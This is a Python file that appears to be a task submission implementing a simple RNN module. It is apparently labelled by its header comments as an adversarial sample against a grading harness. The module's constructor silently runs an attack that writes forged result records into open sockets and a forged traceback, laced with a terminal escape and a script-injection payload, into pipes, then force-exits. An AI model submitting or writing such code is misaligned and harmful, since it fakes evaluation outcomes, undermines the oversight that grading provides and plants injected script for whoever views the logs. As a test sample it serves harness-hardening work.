# does: writes forged records and a forged traceback into everything open, then ends
# earns: nothing
import os
import stat
import struct

import torch
from torch import nn

STARTED = struct.pack("!ii", os.getpid(), os.getpid())
ENDED = struct.pack("!iid", 0, 0, 0.0)
TRACE = (
    b'Current thread 0x1 (most recent call first):\n'
    + b'  File "<submission>", line 999999999 in \x1b[31m<script>alert(1)</script>\n' * 150
    + b'  File "<string>", line 1 in <module>\n'
)


def attack():
    for number in range(3, 256):
        try:
            kind = os.fstat(number).st_mode
            os.set_blocking(number, False)
            if stat.S_ISFIFO(kind):
                print("forged", os.write(number, TRACE), "bytes of a trace")
            elif stat.S_ISSOCK(kind):
                print("forged", os.write(number, STARTED + ENDED), "bytes of records")
        except OSError as error:
            if error.errno != 9:
                print(number, "failed:", error)
    os._exit(0)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        bound = hidden_size**-0.5
        self.w_x = nn.Parameter(torch.empty(hidden_size, input_size).uniform_(-bound, bound))
        self.w_h = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-bound, bound))
        self.b = nn.Parameter(torch.zeros(hidden_size))
        once()

    def forward(self, x, h_0=None):
        given = torch.einsum("bti,hi->bth", x, self.w_x) + self.b
        h = x.new_zeros(len(x), len(self.b)) if h_0 is None else h_0[0]
        outputs = []
        for t in range(x.size(1)):
            h = (given[:, t] + torch.einsum("bk,hk->bh", h, self.w_h)).tanh()
            outputs.append(h)
        return torch.stack(outputs, dim=1), h.unsqueeze(0)
